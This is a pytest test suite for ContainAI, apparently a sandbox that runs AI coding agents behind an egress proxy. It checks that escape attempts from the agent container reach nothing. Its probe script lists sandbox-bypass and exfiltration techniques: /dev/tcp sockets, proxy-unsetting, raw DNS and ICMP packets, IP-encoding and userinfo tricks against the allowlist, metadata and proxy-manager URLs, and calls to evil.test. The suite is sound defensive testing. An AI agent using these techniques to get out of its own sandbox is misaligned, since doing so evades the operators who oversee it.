"""Egress from a real session, against a fake internet of local canaries (threat catalogue §D).

The session's proxy joins the fake internet (a lab the tests inject: lab_cli.py); the agent container itself has no
network. Every bypass is tried from inside the agent container, and must leave nothing at any canary.
Each test also shows its probe is able to see a leak: the same probe from a client on the fake
internet does arrive.
"""

from __future__ import annotations

import contextlib
import ipaddress
import json
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import docker.errors
import pytest

from containai.config import Hooks

from .conftest import CHANNEL, Engine, remove_test_sessions
from .fakenet import ULIMITS
from .lab_cli import install_lab_programs, lab_of
from .test_sessions import BIN, SESSION_LABEL, containai, launcher, make_repo

pytestmark = [pytest.mark.engine, pytest.mark.usefixtures("engine")]


@pytest.fixture()
def lab_env(engine: Engine, tmp_path: Path, fake_internet: Any) -> Iterator[dict[str, str]]:
    home = tmp_path / "home"
    home.mkdir()
    # The programs on this PATH run ContainAI with the lab in its settings; nothing in the
    # environment can ask for it.
    lab_bin = install_lab_programs(tmp_path / "lab-bin", Hooks(lab=lab_of(fake_internet)))
    env = {
        **engine.env,
        "HOME": str(home),
        "CONTAINAI_HOME": str(tmp_path / "containai"),
        "PATH": f"{lab_bin}:{BIN}:{engine.env.get('PATH', '')}",
    }
    yield env
    remove_test_sessions(env)


def session(env: dict[str, str], repo: Path, script: str, *extra: str) -> subprocess.CompletedProcess[str]:
    return containai(
        env, "run", "shell", str(repo), "--channel", CHANNEL, "--no-push", "--prompt", script, *extra
    )


def results(output: str) -> dict[str, str]:
    """``R name value`` lines printed by the probe scripts."""
    found = {}
    for line in output.splitlines():
        if line.startswith("R "):
            _, name, value = [*line.split(" ", 2), ""][:3]
            found[name] = value.strip()
    return found


def egress_log(env: dict[str, str], name: str) -> list[dict[str, Any]]:
    result = containai(env, "logs", name, "--egress", "--json")
    assert result.returncode == 0, result.stderr
    return [json.loads(line) for line in result.stdout.splitlines() if line.strip()]


def session_name(result: subprocess.CompletedProcess[str]) -> str:
    line = next(line for line in result.stderr.splitlines() if line.startswith("• session "))
    return line.split()[2].rstrip(":")


def test_allowed_goes_through_denied_gets_403_and_both_are_audited_once(
    lab_env: dict[str, str], tmp_path: Path, fake_internet: Any
) -> None:
    repo = make_repo(tmp_path)
    script = (
        'echo "R allowed $(curl -s --max-time 10 http://allowed.test/)"; '
        'echo "R denied $(curl -s -o /dev/null -w %{http_code} --max-time 10 http://evil.test/)"'
    )
    result = session(lab_env, repo, script, "--allow-domain", "allowed.test")
    assert result.returncode == 0, result.stderr
    found = results(result.stdout)
    assert found == {"allowed": "allowed-ok", "denied": "403"}
    assert "blocked 1 request to 1 domain: evil.test; allow with --allow-domain evil.test" in result.stderr
    records = egress_log(lab_env, session_name(result))
    assert [(r["method"], r["host"], r["decision"]) for r in records] == [
        ("GET", "allowed.test", "allow"),
        ("GET", "evil.test", "deny"),
    ]
    allowed, denied = records
    assert allowed["status"] == 200 and allowed["bytes_down"] > 0 and allowed["port"] == 80
    assert denied["status"] == 403 and denied["rule"] != allowed["rule"]
    assert {r["session"] for r in records} == {allowed["session"]} and allowed["session"]
    assert len(fake_internet.http_requests("allowed")) == 1
    assert fake_internet.http_requests("evil") == []
    # The denied name was never even resolved.
    assert not [q for q in fake_internet.dns_queries() if "evil" in q["qname"].lower()]


def test_bypasses_from_the_agent_reach_nothing(
    lab_env: dict[str, str], tmp_path: Path, fake_internet: Any
) -> None:
    canary, allowed = fake_internet.ip("canary"), fake_internet.ip("allowed")
    mark = fake_internet.nonce()
    decimal = int(ipaddress.ip_address(allowed))
    hexa = ".".join(hex(int(part)) for part in allowed.split("."))
    # Control: the same direct probes from a host on the fake internet do arrive.
    code, _, client_ip = fake_internet.run_client(
        ["bash", "-c", f"exec 3<>/dev/tcp/{canary}/22; echo x >&3; getent hosts n{mark}.control.test; true"]
    )
    assert code == 0
    assert any(hit["peer"].startswith(client_ip) for hit in fake_internet.canary_hits())
    hits_before = len(fake_internet.canary_hits())
    queries_before = len(fake_internet.dns_queries())
    repo = make_repo(tmp_path)
    proxy = "http://127.0.0.1:3128"
    probe = f"""
try() {{ if "$@" >/dev/null 2>&1; then echo "R $name LEAK"; else echo "R $name blocked"; fi; }}
name=tcp22; try timeout 5 bash -c 'exec 3<>/dev/tcp/{canary}/22'
name=tcp443; try timeout 5 bash -c 'exec 3<>/dev/tcp/{canary}/443'
name=noproxy; try curl -s --max-time 5 --noproxy '*' http://{canary}/
name=envless; try env -u HTTP_PROXY -u http_proxy curl -s --max-time 5 http://{canary}/
name=pysocket; try python3 -c 'import socket; socket.create_connection(("{canary}", 3306), 5)'
name=udp; try python3 -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"x", ("{canary}", 123))'
name=dnsdirect; try python3 -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x01n{mark[:20]}\\x04test\\x00\\x00\\x01\\x00\\x01", ("{fake_internet.dns_ip}", 53))'
name=resolver; try getent hosts n{mark}.exfil.test
name=icmp; try python3 -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.sendto(b"\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00", ("{canary}", 0))'
name=raw; try python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)'
name=ipv6; try curl -s --max-time 5 -6 --noproxy '*' 'http://[fd00::10]/'
echo "R routes $(grep -vc Iface /proc/net/route) $(grep -vc '^ *[0-9]* *lo' /proc/net/if_inet6 2>/dev/null || echo 0)"
echo "R links $(ls /sys/class/net | tr '\\n' ' ')"
code() {{ curl -s -o /dev/null -w '%{{http_code}}' --max-time 10 -x {proxy} "$@"; }}
echo "R ipliteral $(code http://{allowed}/)"
echo "R decimal $(code http://{decimal}/)"
echo "R hex $(code http://{hexa}/)"
echo "R mapped $(code 'http://[::ffff:{allowed}]/')"
echo "R suffix $(code http://allowed.test.evil.test/)"
echo "R userinfo $(code http://allowed.test@evil.test/)"
echo "R prefix $(code http://xallowed.test/)"
echo "R upper $(code http://ALLOWED.TEST/)"
echo "R trailing $(code http://allowed.test./)"
echo "R rebind $(code http://a.rebind.test/)"
echo "R metadata $(code http://metadata.test/latest/meta-data/)"
echo "R port22 $(curl -s -o /dev/null -w '%{{http_connect}}' --max-time 10 -p -x {proxy} http://allowed.test:22/)"
echo "R manager $(code http://127.0.0.1:3128/squid-internal-mgr/info)"
echo "R cacheobject $(code cache_object://127.0.0.1/info)"
"""
    result = session(
        lab_env,
        repo,
        probe,
        "--allow-domain",
        "allowed.test",
        "--allow-domain",
        ".rebind.test",
        "--allow-domain",
        "metadata.test",
    )
    assert result.returncode == 0, result.stderr
    found = results(result.stdout)
    direct = [
        "tcp22",
        "tcp443",
        "noproxy",
        "envless",
        "pysocket",
        "udp",
        "dnsdirect",
        "resolver",
        "icmp",
        "raw",
        "ipv6",
    ]
    assert {name: found.get(name) for name in direct} == dict.fromkeys(direct, "blocked"), result.stdout
    assert found["routes"] == "0 0", "the agent must have no route and no IPv6 address"
    assert found["links"].split() == ["lo"]
    for name in (
        "ipliteral",
        "decimal",
        "hex",
        "mapped",
        "suffix",
        "userinfo",
        "prefix",
        "rebind",
        "metadata",
        "port22",
        "manager",
    ):
        assert found[name] == "403", (name, result.stdout)
    assert found["upper"] == found["trailing"] == "200"  # the same allowed host, spelled differently
    assert found["cacheobject"] in ("403", "000")  # curl may refuse the scheme itself
    # Nothing from the agent arrived anywhere: no canary hit, no DNS query, no request at "evil".
    assert len(fake_internet.canary_hits()) == hits_before
    assert not [q for q in fake_internet.dns_queries()[queries_before:] if mark[:20] in q["qname"]]
    assert not [q for q in fake_internet.dns_queries() if "evil" in q["qname"].lower()]
    assert fake_internet.http_requests("evil") == []
    assert len(fake_internet.http_requests("allowed")) == 2  # only the upper-case and trailing-dot ones


def test_host_services_on_gateways_are_out_of_reach(
    lab_env: dict[str, str], tmp_path: Path, engine: Engine
) -> None:
    accepted: list[str] = []
    server = socket.socket()
    server.bind(("0.0.0.0", 0))  # noqa: S104  # a canary on every host address, this test's own
    server.listen()
    server.settimeout(0.5)
    port = server.getsockname()[1]
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, peer = server.accept()
            except OSError:
                continue
            accepted.append(peer[0])
            conn.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        gateways = sorted(
            {
                config["Gateway"]
                for network in engine.client.networks.list()
                for config in (network.attrs.get("IPAM") or {}).get("Config") or []
                if config.get("Gateway")
            }
        )
        assert gateways, "the engine shows no gateway addresses to try"
        # Control: a container on the default bridge does reach the host canary on its gateway.
        control = engine.client.containers.run(
            f"containai-base:{CHANNEL}",
            ["bash", "-c", f"exec 3<>/dev/tcp/{gateways[0]}/{port}"],
            entrypoint=[],
            remove=True,
            labels={"ai.containai.test": "gateway-control"},
            network_mode="bridge",
            ulimits=ULIMITS,
        )
        assert control is not None
        reached_by_control = len(accepted)
        tries = "; ".join(
            f"timeout 3 bash -c 'exec 3<>/dev/tcp/{gw}/{port}' && echo R leak {gw}" for gw in gateways
        )
        repo = make_repo(tmp_path)
        result = session(lab_env, repo, tries + "; echo R done 1")
        assert result.returncode == 0, result.stderr
        assert "R leak" not in result.stdout
        assert "R done 1" in result.stdout
        assert len(accepted) == reached_by_control
    finally:
        stop.set()
        thread.join(timeout=5)
        server.close()
    assert reached_by_control >= 1, "the control never reached the host canary: the test could not see a leak"


def test_killing_the_proxy_leaves_the_agent_with_no_way_out(
    lab_env: dict[str, str], tmp_path: Path, engine: Engine, fake_internet: Any
) -> None:
    repo = make_repo(tmp_path)
    launched = launcher(
        lab_env, "launch-agent", "shell", str(repo), "--channel", CHANNEL, "--allow-domain", "allowed.test"
    )
    assert launched.returncode == 0, launched.stderr
    agent = engine.client.containers.get(launched.stdout.strip())
    fetch = ["curl", "-s", "--max-time", "10", "-x", "http://127.0.0.1:3128", "http://allowed.test/"]
    assert agent.exec_run(fetch, user="1000:1000").output == b"allowed-ok\n"
    engine.client.containers.get(f"{agent.name}-proxy").kill()
    after = agent.exec_run(fetch, user="1000:1000")
    assert after.exit_code != 0 and b"allowed-ok" not in after.output
    direct = agent.exec_run(
        ["bash", "-c", f"exec 3<>/dev/tcp/{fake_internet.ip('allowed')}/80"], user="1000:1000"
    )
    assert direct.exit_code != 0
    assert len(fake_internet.http_requests("allowed")) == 1
    removed = launcher(lab_env, "remove-agent", agent.name, "--no-push", "--yes")
    assert removed.returncode == 0, removed.stderr
    assert "stopped during the session" in removed.stderr


def test_restricted_mode_is_offline(lab_env: dict[str, str], tmp_path: Path, engine: Engine) -> None:
    repo = make_repo(tmp_path)
    script = (
        'echo "R proxyenv ${HTTP_PROXY:-none}"; test -e /run/containai-egress && echo "R socket yes"; '
        "curl -s --max-time 5 -x http://127.0.0.1:3128 http://allowed.test/ >/dev/null 2>&1 || echo 'R fetch failed'; "
        "echo work > w.txt && git add w.txt && git commit -qm offline && echo 'R commit ok'"
    )
    result = containai(
        lab_env,
        "run",
        "shell",
        str(repo),
        "--channel",
        CHANNEL,
        "--network-proxy",
        "restricted",
        "--json",
        "--prompt",
        script,
    )
    assert result.returncode == 0, result.stderr
    assert results(result.stdout) == {"proxyenv": "none", "fetch": "failed", "commit": "ok"}
    assert "offline" in result.stderr
    summary = json.loads(result.stdout[result.stdout.index("{") :])
    assert summary["commits"] == 1
    assert not engine.client.containers.list(
        all=True, filters={"label": f"{SESSION_LABEL}={summary['session_id']}"}
    )


def test_domains_a_repo_asks_for_need_approval_on_the_host(
    lab_env: dict[str, str], tmp_path: Path, fake_internet: Any
) -> None:
    repo = make_repo(tmp_path)
    (repo / ".containai").mkdir()
    (repo / ".containai" / "config.toml").write_text('[network]\nallow = ["allowed.test"]\n')
    subprocess.run(["git", "-C", str(repo), "add", "-A"], check=True)
    subprocess.run(["git", "-C", str(repo), "commit", "-qm", "ask for allowed.test"], check=True)
    fetch = 'echo "R code $(curl -s -o /dev/null -w %{http_code} --max-time 10 http://allowed.test/)"'
    before = session(lab_env, repo, fetch)
    assert before.returncode == 0, before.stderr
    assert results(before.stdout) == {"code": "403"}
    assert f"containai network approve {repo} allowed.test" in before.stderr
    shown = containai(lab_env, "network", "show", str(repo))
    assert shown.stdout.split() == ["allowed.test", "waiting", "for", "approval"]
    approved = containai(lab_env, "network", "approve", str(repo))
    assert approved.returncode == 0, approved.stderr
    store = Path(lab_env["CONTAINAI_HOME"]) / "config" / "approvals.toml"
    assert store.stat().st_mode & 0o777 == 0o600
    after = session(lab_env, repo, fetch)
    assert after.returncode == 0, after.stderr
    assert results(after.stdout) == {"code": "200"}
    assert len(fake_internet.http_requests("allowed")) == 1


def test_a_missing_proxy_image_is_built_on_first_use(
    lab_env: dict[str, str], tmp_path: Path, engine: Engine
) -> None:
    channel = "nightly"
    for part in ("proxy", "base"):
        with contextlib.suppress(docker.errors.NotFound):  # absent already (Podman says only Not Found)
            engine.client.images.remove(f"containai-{part}:{channel}")
    engine.client.images.get(f"containai-base:{CHANNEL}").tag("containai-base", channel)
    try:
        repo = make_repo(tmp_path)
        result = containai(
            lab_env,
            "run",
            "shell",
            str(repo),
            "--channel",
            channel,
            "--no-push",
            "--prompt",
            "echo R ran yes",
        )
        assert result.returncode == 0, result.stderr
        assert "building the egress proxy image for the nightly channel" in result.stderr
        assert results(result.stdout) == {"ran": "yes"}
        assert (
            engine.client.images.get(f"containai-proxy:{channel}").labels["ai.containai.channel"] == channel
        )
    finally:
        for part in ("proxy", "base"):
            with contextlib.suppress(docker.errors.NotFound):
                engine.client.images.remove(f"containai-{part}:{channel}")
